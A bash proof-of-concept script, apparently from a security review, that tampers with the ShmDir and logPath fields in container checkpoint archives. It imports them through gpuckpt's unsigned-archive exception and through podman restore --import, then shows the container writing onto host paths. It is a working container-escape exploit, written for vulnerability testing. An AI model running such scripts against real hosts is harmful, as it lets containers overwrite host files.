#!/bin/bash
# attack30d: config.dump ShmDir / logPath through gpuckpt import (unsigned, archive: exception in our own trust dir)
# and through podman's own --import (this node's signed export).
set -u
D=/var/tmp/attack30d; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3
cd $D; rm -rf $D/trust; mkdir -m 700 $D/trust; cp /etc/gpuckpt/node.key /etc/gpuckpt/trust.toml $D/trust/
GPUCKPT_TRUST_DIR=$D/trust gpuckpt trust allow-unsigned archive:$D/ --note "attack30d review" >/dev/null
prep() { rm -rf $D/shmtarget $D/logtarget; mkdir -m 700 $D/shmtarget $D/logtarget; echo "host file" > $D/shmtarget/existing; }
proof() {
  podman exec attack30d-src sh -c 'grep " /dev/shm " /proc/self/mountinfo; echo attack30d-from-container > /dev/shm/written; echo line-from-container-stdout > /proc/1/fd/1' 2>&1; echo "exec rc=$?"
  echo "host: $(findmnt -n -o TARGET,FSTYPE $D/shmtarget); ls shmtarget: $(ls $D/shmtarget | tr '\n' ' '); logtarget: $(ls -la $D/logtarget | tail -n +4 | tr '\n' ' ') $(tail -1 $D/logtarget/evil.log 2>/dev/null)"
  [ -e $D/shmtarget/written ] && echo "HOST PATH mounted over by podman and written from the container"
}
for mode in ${@:-shmdir logpath}; do
  for how in import podman; do
    prep; podman rm -f -t 0 attack30d-src >/dev/null 2>&1
    if [ $how = import ]; then
      $P $H/edit_cfg.py src.tar.zst cfg-$mode.tar.zst $mode-nosig >/dev/null
      echo "=== gpuckpt import $mode (unsigned, archive: exception)"
      GPUCKPT_TRUST_DIR=$D/trust timeout 200 gpuckpt import $D/cfg-$mode.tar.zst 2>&1 | grep -v "is unsigned: accepted" | cut -c1-500; echo "rc=${PIPESTATUS[0]}"
    else
      $P $H/edit_cfg.py src.tar.zst cfg-$mode.tar.zst $mode >/dev/null
      echo "=== podman container restore --import $mode (this node's signed export)"
      timeout 200 podman container restore --import $D/cfg-$mode.tar.zst 2>&1 | tail -1 | cut -c1-500; echo "rc=${PIPESTATUS[0]}"
    fi
    proof
    podman rm -f -t 0 attack30d-src >/dev/null 2>&1
    mountpoint -q $D/shmtarget && { umount $D/shmtarget && echo "(host tmpfs left on shmtarget after rm: unmounted by hand)"; }
  done
done
rm -rf $D/trust $D/shmtarget $D/logtarget
